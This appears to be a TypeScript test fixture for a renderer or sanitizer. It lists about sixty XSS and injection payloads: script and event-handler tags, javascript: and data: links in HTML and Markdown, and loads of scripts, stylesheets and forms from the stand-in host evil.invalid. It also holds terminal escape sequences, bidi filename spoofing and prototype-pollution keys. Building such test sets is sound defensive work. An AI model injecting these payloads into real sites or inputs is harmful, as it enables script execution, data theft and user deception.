// What strangers write to get out of a text: sixty ways. Each that runs sets window.pwned.
const run = "window.pwned=1";
const tags = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "details open ontoggle=0",
  "iframe",
  "input autofocus",
];
const events = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover"];

/** Each a different way in: tags, attributes, addresses, Markdown, entities, terminals, templates. */
export const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<a href="javascript:${run}">a</a>`,
  `[a](javascript:${run})`,
  `[a](JaVaScRiPt:${run})`,
  `[a](data:text/html,<script>${run}</script>)`,
  `[a](vbscript:${run})`,
  `![a](x"onerror="${run})`,
  `![a](https://evil.invalid/pixel.png)`,
  `<javascript:${run}>`,
  `[a]: javascript:${run}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `<style>@import "//evil.invalid/x.css";</style>`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<base href=//evil.invalid/>`,
  `<meta http-equiv=refresh content="0;url=//evil.invalid/">`,
  `<form action=//evil.invalid/><button>send</button></form>`,
  `<object data=//evil.invalid/x.swf></object>`,
  `<embed src=//evil.invalid/x.swf>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `\u001b]8;;javascript:${run}\u0007a\u001b]8;;\u0007`,
  `\u001b]0;${run}\u0007title`,
  `\u001b[2J\u001b[H${run}`,
  `\u001b[38;2;255;0;0mred\u001b[0m`,
  `\u001bPq#0;2;0;0;0\u001b\\sixel`,
  `\u202Egnp.exe\u202C`,
  `\u2066hidden\u2069`,
  `__proto__`,
  `constructor`,
  ...tags.flatMap((tag, at) => [
    `<${tag} ${events[at % events.length] ?? "onload"}=${run}>`,
    `"><${tag} ${events[(at + 1) % events.length] ?? "onload"}="${run}">`,
  ]),
  `<p style="background:url(//evil.invalid/x)">p</p>`,
  `x" onclick="${run}" data-x="`,
];

/** In the page: zero where nothing ran, nothing was loaded, and nothing left its place. */
export const hurt = `window.pwned ?? document.querySelectorAll(
  "script:not([src^='/assets/']), iframe, object, embed, base, form, style, meta[http-equiv], img").length`;
